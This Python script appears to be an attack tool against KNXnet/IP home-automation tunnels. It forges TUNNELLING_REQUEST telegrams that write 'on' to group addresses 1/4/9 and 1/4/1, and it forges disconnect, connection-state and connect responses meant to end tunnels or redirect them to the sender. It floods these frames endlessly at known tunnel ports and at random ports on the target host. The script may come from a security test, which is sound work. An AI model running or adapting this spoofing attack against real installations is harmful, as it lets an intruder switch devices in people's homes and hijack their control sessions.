#!/usr/bin/env python3
"""Another host of the network that sends forged KNXnet/IP datagrams to the house, as fast as it can.

Usage: spoofing.py TARGET FILE: FILE has the ports of the house's tunnels, one for each line, which a user of the house's machine
can read in /proc/net/udp.
"""
import pathlib
import random
import socket
import struct
import sys
import time


def frame(service: int, body: bytes) -> bytes:
    """Header of KNXnet/IP: its own length, version 1.0, the service, the whole length."""
    return struct.pack(">BBHH", 6, 0x10, service, 6 + len(body)) + body


def forged(own: bytes) -> list[bytes]:
    """What takes over, ends or feeds a tunnel. The channel is one of the first few."""
    endpoint = b"\x08\x01" + own
    frames = []
    for channel in range(1, 6):
        for sequence in range(4):
            # L_Data.ind from 1.1.9 to 1/4/9 (the witness) and 1/4/1: GroupValueWrite on.
            for group in (0x0C09, 0x0C01):
                telegram = b"\x29\x00\xbc\xe0" + struct.pack(">HH", 0x1109, group) + b"\x01\x00\x81"
                frames.append(frame(0x0420, bytes([4, channel, sequence, 0]) + telegram))
            frames.append(frame(0x0421, bytes([4, channel, sequence, 0x29])))
        frames.append(frame(0x0209, bytes([channel, 0]) + endpoint))  # DISCONNECT_REQUEST
        frames.append(frame(0x020A, bytes([channel, 0])))  # DISCONNECT_RESPONSE
        frames.append(frame(0x0208, bytes([channel, 0x21])))  # CONNECTIONSTATE_RESPONSE: no such connection
        # CONNECT_RESPONSE: further frames go to the stranger.
        frames.append(frame(0x0206, bytes([channel, 0]) + endpoint + b"\x04\x04\x11\xfa"))
        frames.append(frame(0x0206, bytes([channel, 0x24]) + endpoint))  # no more connections
    return frames


def main() -> None:
    target, file = sys.argv[1], pathlib.Path(sys.argv[2])
    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sender.bind(("", 0))
    sender.connect((target, 9))
    own = socket.inet_aton(sender.getsockname()[0]) + struct.pack(">H", sender.getsockname()[1])
    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    frames = forged(own)
    rest = list(range(1024, 65536))
    end, count = time.monotonic() + 1, 0
    while True:
        known = [int(line) for line in file.read_text().split()] if file.exists() else []
        # Most to the ports that are known, some to all others.
        for port in known * 20 + random.sample(rest, 200):
            for each in frames if port in known else frames[:1]:
                try:
                    sender.sendto(each, (target, port))
                    count += 1
                except OSError:
                    pass
        if time.monotonic() > end:
            end += 1
            print(count, flush=True)


if __name__ == "__main__":
    main()
